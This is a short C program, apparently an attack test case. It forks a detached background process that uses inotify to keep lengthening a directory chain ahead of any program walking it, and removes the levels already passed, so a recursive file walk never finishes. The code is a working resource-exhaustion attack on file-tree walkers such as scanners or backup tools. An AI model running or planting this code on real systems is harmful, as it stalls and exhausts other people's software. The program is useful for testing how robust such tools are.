// Goes on in the background: lengthens a chain of folders ahead of whoever walks down it, as
// inotify tells, and takes away what lies behind. Such a walk comes to no end.
#include "attack.h"
#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
enum { kWidth = 10, kLead = 3000 };
static char beside[kWidth][8], first[kWidth][16];
static int level_of[1 << 22];
int main(void) {
  for (int i = 0; i < kWidth; ++i) {
    sprintf(beside[i], "e%d", i);
    sprintf(first[i], "d/e%d", i);
  }
  mkdir("chain", 0700);
  if (chdir("chain") != 0) broken("chdir");
  if (fork() != 0) {
    usleep(400000);
    return 7;
  }
  setsid();
  const int root = open(".", O_RDONLY | O_DIRECTORY);
  const int events = inotify_init1(IN_NONBLOCK);
  mkdir("d", 0700);
  int at = open("d", O_RDONLY | O_DIRECTORY);
  long made = 0, cut = 0, walked = 0;
  static char buffer[65536];
  for (const time_t end = time(0) + 30; time(0) < end;) {
    while (made < walked + kLead) {
      if (mkdirat(at, "d", 0700) != 0) break;
      for (int i = 0; i < kWidth; ++i) mkdirat(at, beside[i], 0700);
      const int next = openat(at, "d", O_RDONLY | O_DIRECTORY);
      if (next < 0) break;
      close(at);
      at = next;
      if (++made % 64 != 0) continue;
      char path[64];
      sprintf(path, "/proc/self/fd/%d", at);
      const int watch = inotify_add_watch(events, path, IN_OPEN | IN_ACCESS);
      if (watch >= 0 && watch < 1 << 22) level_of[watch] = made;
    }
    const long got = read(events, buffer, sizeof(buffer));
    if (got <= 0) usleep(50);
    for (char* next = buffer; next < buffer + got;) {
      const struct inotify_event* event = (void*)next;
      if (event->len == 0 && event->wd >= 0 && level_of[event->wd] > walked) {
        walked = level_of[event->wd];
      }
      next += sizeof(*event) + event->len;
    }
    for (int i = 0; i < 200 && cut < walked - 100; ++i) {
      if (renameat(root, "d/d", root, "x") != 0) break;
      for (int k = 0; k < kWidth; ++k) unlinkat(root, first[k], AT_REMOVEDIR);
      unlinkat(root, "d", AT_REMOVEDIR);
      renameat(root, "x", root, "d");
      ++cut;
    }
  }
  _exit(0);
}
